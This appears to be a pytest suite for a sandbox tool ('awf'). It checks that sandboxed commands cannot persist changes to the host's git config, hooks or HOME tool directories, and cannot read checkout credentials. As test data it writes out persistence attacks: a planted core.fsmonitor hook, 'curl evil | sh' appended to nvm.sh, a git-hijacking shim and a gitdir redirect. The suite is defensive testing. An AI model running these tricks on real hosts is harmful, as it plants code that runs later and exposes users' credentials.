"""Persistence and the workspace's git credentials (issue 14, findings 2 and 3): nothing the
command writes is later run or trusted by the host unless the caller asked for that path, and
the checkout's credentials in .git/config do not reach the command.

Each test attacks the real binary and has a control showing the attack works without awf
(git on the host runs a planted core.fsmonitor; the credentials are in the host's file)."""

from __future__ import annotations

import os
import re
import subprocess

import pytest

import vnet as V
from home_user import home_user

TOKEN = "ghs_checkoutTOKEN0123456789"
EXTRAHEADER = "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX2NoZWNrb3V0VE9LRU4="
IDENTITY = ["-e", "GIT_AUTHOR_NAME=agent", "-e", "GIT_AUTHOR_EMAIL=agent@example.test",
            "-e", "GIT_COMMITTER_NAME=agent", "-e", "GIT_COMMITTER_EMAIL=agent@example.test"]


def as_user(u: dict, cmd: list[str], cwd: str) -> subprocess.CompletedProcess:
    """`cmd` run on the host (no awf) as the test user, in `cwd`."""
    env = V.clean_env({"HOME": u["home"], "GIT_CONFIG_NOSYSTEM": "1"})
    return subprocess.run(["setpriv", f"--reuid={u['uid']}", f"--regid={u['gid']}",
                           "--clear-groups", *cmd], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=30)


def git(u: dict, repo: str, *args: str) -> subprocess.CompletedProcess:
    r = as_user(u, ["git", "-c", "user.name=t", "-c", "user.email=t@example.test", *args], repo)
    assert r.returncode == 0, (args, r.stdout, r.stderr)
    return r


@pytest.fixture
def repo_user(nonce):
    """A user whose HOME holds `project`, a checkout as actions/checkout leaves it: the job token
    in http.<url>.extraheader, a credential helper and a token in a URL."""
    with home_user(nonce, {".cache/x": "c"}) as u:
        project = os.path.join(u["home"], "project")
        os.makedirs(project)
        os.chown(project, u["uid"], u["gid"])
        git(u, project, "init", "-q", "-b", "main")
        with open(os.path.join(project, "README"), "w") as f:
            f.write("hello\n")
        os.chown(os.path.join(project, "README"), u["uid"], u["gid"])
        git(u, project, "add", "README")
        git(u, project, "commit", "-q", "-m", "first")
        git(u, project, "remote", "add", "origin", "https://github.com/o/r")
        git(u, project, "config", "http.https://github.com/.extraheader", EXTRAHEADER)
        git(u, project, "config", "credential.helper", "store --file=/tmp/creds")
        git(u, project, "config", "remote.mirror.url", f"https://x-access-token:{TOKEN}@example.test/r")
        git(u, project, "config", f"url.https://x:{TOKEN}@example.test/.insteadOf", "https://ex/")
        u["project"] = project
        yield u


def run_in(awf, u: dict, script: str, *flags: str) -> V.AwfResult:
    return awf(["-d", "allowed.test", "--user", u["name"], "--container-workdir", u["project"],
                *IDENTITY, *flags], ["bash", "-c", script], prefix=["env", "-C", u["project"]])


def test_planted_fsmonitor_does_not_run_on_the_host(awf, repo_user):
    u = repo_user
    marker = os.path.join(u["home"], "fsmonitor-ran")
    hook = f"touch {marker}; false"
    # Control: the same write outside awf makes the host's next `git status` run it.
    git(u, u["project"], "config", "core.fsmonitor", hook)
    git(u, u["project"], "status")
    assert os.path.exists(marker), "control: git status did not run core.fsmonitor"
    git(u, u["project"], "config", "--unset", "core.fsmonitor")
    os.unlink(marker)
    before = open(os.path.join(u["project"], ".git/config")).read()

    script = "; ".join([
        f"git config core.fsmonitor '{hook}' 2>/dev/null; echo config_rc=$?",
        f"printf '[core]\\n\\tfsmonitor = {hook}\\n' >> .git/config 2>/dev/null; echo append_rc=$?",
        "printf '#!/bin/sh\\ntouch /tmp/x\\n' > .git/hooks/post-checkout 2>/dev/null; "
        "echo hook_rc=$?",
        "mv .git .git-aside 2>/dev/null; echo move_rc=$?",
        "mv .git/hooks .git/hooks-aside 2>/dev/null; echo move_hooks_rc=$?",
        "rm -f .git/config 2>/dev/null; echo rm_rc=$?",
    ])
    r = run_in(awf, u, script)
    assert r.rc == 0, r.describe()
    for probe in ("config", "append", "hook", "move", "move_hooks", "rm"):
        assert re.search(rf"^{probe}_rc=[1-9]", r.stdout, re.M), probe + r.describe()
    assert open(os.path.join(u["project"], ".git/config")).read() == before
    assert not os.path.exists(os.path.join(u["project"], ".git/hooks/post-checkout"))
    assert os.path.isdir(os.path.join(u["project"], ".git"))
    git(u, u["project"], "status")
    assert not os.path.exists(marker), "the host's git status ran the planted fsmonitor"


def test_checkout_credentials_are_not_visible_and_git_works(awf, repo_user):
    u = repo_user
    # Control: the host's config holds them.
    host = git(u, u["project"], "config", "--list", "--local").stdout
    assert TOKEN in host and EXTRAHEADER in host and "credential.helper" in host

    script = "; ".join([
        "git config --list --local",
        "echo change >> README; echo new > new.txt",
        "git status --short; echo status_rc=$?",
        "git add -A; echo add_rc=$?",
        "git commit -q -m 'by the agent'; echo commit_rc=$?",
        "git branch feature; echo branch_rc=$?",
        "git log --oneline | wc -l",
        "git diff HEAD~1 --stat | tail -1",
        "cat .git/config | wc -c",
    ])
    r = run_in(awf, u, script)
    assert r.rc == 0, r.describe()
    out = r.stdout
    assert TOKEN not in out and "eC1hY2Nlc3M" not in out, r.describe()
    assert "extraheader" not in out.lower() and "credential." not in out, r.describe()
    assert "remote.origin.url=https://github.com/o/r" in out, r.describe()
    assert "remote.mirror.url=https://example.test/r" in out, r.describe()
    for probe in ("status", "add", "commit", "branch"):
        assert f"{probe}_rc=0" in out, probe + r.describe()
    # The commit and the branch are the host's now; its config is untouched.
    log = git(u, u["project"], "log", "--format=%an %s", "main").stdout
    assert log.splitlines()[0] == "agent by the agent", log
    git(u, u["project"], "rev-parse", "--verify", "feature")
    assert TOKEN in git(u, u["project"], "config", "--list", "--local").stdout


def test_allow_git_write_keeps_the_real_config(awf, repo_user):
    u = repo_user
    r = run_in(awf, u, "git config awf.test written; echo rc=$?; git config --get-regexp extraheader",
               "--allow-git-write", u["project"])
    assert r.rc == 0 and "rc=0" in r.stdout, r.describe()
    assert EXTRAHEADER in r.stdout, r.describe()
    assert git(u, u["project"], "config", "awf.test").stdout.strip() == "written"


def test_repository_behind_a_git_file_is_protected(awf, repo_user):
    """A worktree checkout: its .git is a file naming a directory of the main repository."""
    u = repo_user
    worktree = os.path.join(u["home"], "wt")
    git(u, u["project"], "worktree", "add", "-q", worktree, "-b", "wt")
    main = u["project"]
    u = dict(u, project=worktree)
    script = "; ".join([
        "echo 'gitdir: /tmp/evil' > .git 2>/dev/null; echo gitfile_rc=$?",
        "echo /tmp/evil > \"$(git rev-parse --git-dir)/commondir\" 2>/dev/null; "
        "echo commondir_rc=$?",
        "git config core.fsmonitor 'touch /tmp/x' 2>/dev/null; echo config_rc=$?",
        "git config --list | grep -ci extraheader",
        "git status --short >/dev/null; echo status_rc=$?",
    ])
    # The main repository must be in the view for the worktree to work at all.
    r = run_in(awf, u, script, "-v", f"{main}:{main}")
    assert r.rc == 0, r.describe()
    for probe in ("gitfile", "commondir", "config"):
        assert re.search(rf"^{probe}_rc=[1-9]", r.stdout, re.M), probe + r.describe()
    assert "\n0\n" in r.stdout and "status_rc=0" in r.stdout, r.describe()


# ------------------------------------------------------------------------------- HOME's tool dirs
@pytest.fixture
def tool_user(nonce):
    files = {".nvm/nvm.sh": "# the real nvm\n", ".local/bin/.keep": "", ".npm/_cacache/x": "c",
             ".cache/pip/.keep": "", ".config/app/settings": "real"}
    with home_user(nonce, files) as u:
        yield u


def test_writes_to_home_tool_dirs_vanish(awf, tool_user):
    u = tool_user
    shim = "#!/bin/sh\necho hijacked\n"
    script = "; ".join([
        "cat $HOME/.nvm/nvm.sh; cat $HOME/.config/app/settings; echo",
        "echo 'curl evil | sh' >> $HOME/.nvm/nvm.sh; echo nvm_rc=$?",
        f"printf '{shim}' > $HOME/.local/bin/git; chmod +x $HOME/.local/bin/git; echo shim_rc=$?",
        "rm $HOME/.config/app/settings; echo rm_rc=$?",
        "echo cached > $HOME/.npm/new-entry; echo npm_rc=$?",
        "cat $HOME/.local/bin/git",
    ])
    r = awf(["-d", "allowed.test", "--user", u["name"]], ["bash", "-c", script])
    assert r.rc == 0, r.describe()
    # Inside, the directories read as the real ones and are writable.
    assert "# the real nvm" in r.stdout and "real" in r.stdout, r.describe()
    for probe in ("nvm", "shim", "rm", "npm"):
        assert f"{probe}_rc=0" in r.stdout, probe + r.describe()
    assert "hijacked" in r.stdout, r.describe()
    # On the host nothing changed.
    home = u["home"]
    assert open(f"{home}/.nvm/nvm.sh").read() == "# the real nvm\n"
    assert not os.path.exists(f"{home}/.local/bin/git")
    assert open(f"{home}/.config/app/settings").read() == "real"
    assert not os.path.exists(f"{home}/.npm/new-entry")


def test_persist_home_dir_writes_through(awf, tool_user):
    u = tool_user
    script = ("echo kept > $HOME/.npm/new-entry; echo kept > $HOME/.cache/pip/wheel; "
              "mkdir -p $HOME/.cargo/registry && echo kept > $HOME/.cargo/registry/crate; "
              "echo gone > $HOME/.cache/other")
    r = awf(["-d", "allowed.test", "--user", u["name"], "--persist-home-dir", ".npm",
             "--persist-home-dir", ".cache/pip", "--persist-home-dir", ".cargo/registry"],
            ["bash", "-c", script])
    assert r.rc == 0, r.describe()
    home = u["home"]
    for rel in (".npm/new-entry", ".cache/pip/wheel", ".cargo/registry/crate"):
        assert open(f"{home}/{rel}").read() == "kept\n", rel
    assert os.stat(f"{home}/.cargo/registry").st_uid == u["uid"]
    assert not os.path.exists(f"{home}/.cache/other")


@pytest.mark.parametrize("bad", [".ssh", "/root/.npm", ".cache/../.ssh", "project"])
def test_persist_home_dir_refuses_other_paths(awf, bad):
    r = awf(["-d", "allowed.test", "--persist-home-dir", bad], ["true"])
    assert r.rc != 0 and f"--persist-home-dir '{bad}'" in r.stderr, r.describe()


def test_rootless_run_protects_repository_and_home(awf, repo_user, vnet):
    """The same protections when the user runs awf without root (user namespace): overlayfs
    and the binds over .git are made there."""
    u = repo_user
    os.makedirs(f"{u['home']}/.nvm")
    with open(f"{u['home']}/.nvm/nvm.sh", "w") as f:
        f.write("# real\n")
    os.chown(f"{u['home']}/.nvm", u["uid"], u["gid"])
    os.chown(f"{u['home']}/.nvm/nvm.sh", u["uid"], u["gid"])
    logs = os.path.join(vnet.scratch_dir, f"logs-{u['name']}")
    os.makedirs(logs)
    os.chown(logs, u["uid"], u["gid"])
    marker = os.path.join(u["home"], "fsmonitor-ran")
    script = "; ".join([
        f"git config core.fsmonitor 'touch {marker}' 2>/dev/null; echo config_rc=$?",
        "echo 'curl evil | sh' >> $HOME/.nvm/nvm.sh; echo nvm_rc=$?",
        "git config --list --local | grep -c -i -e extraheader -e " + TOKEN,
        "git add -A && git commit -q --allow-empty -m rootless; echo commit_rc=$?",
    ])
    r = awf(["-d", "allowed.test", "--container-workdir", u["project"], *IDENTITY],
            ["bash", "-c", script], logs_dir=logs,
            prefix=["setpriv", f"--reuid={u['uid']}", f"--regid={u['gid']}", "--clear-groups",
                    "env", "-C", u["project"]])
    assert r.rc == 0, r.describe()
    assert re.search(r"^config_rc=[1-9]", r.stdout, re.M), r.describe()
    assert "nvm_rc=0" in r.stdout and "\n0\n" in r.stdout, r.describe()
    assert "commit_rc=0" in r.stdout, r.describe()
    assert open(f"{u['home']}/.nvm/nvm.sh").read() == "# real\n"
    git(u, u["project"], "status")
    assert not os.path.exists(marker)
    assert git(u, u["project"], "log", "-1", "--format=%s").stdout.strip() == "rootless"


def test_allow_git_write_names_a_missing_directory(awf):
    r = awf(["-d", "allowed.test", "--allow-git-write", "/nonexistent-awf-repo"], ["true"])
    assert r.rc != 0, r.describe()
    assert "--allow-git-write '/nonexistent-awf-repo': not an existing directory" in r.stderr, \
        r.describe()
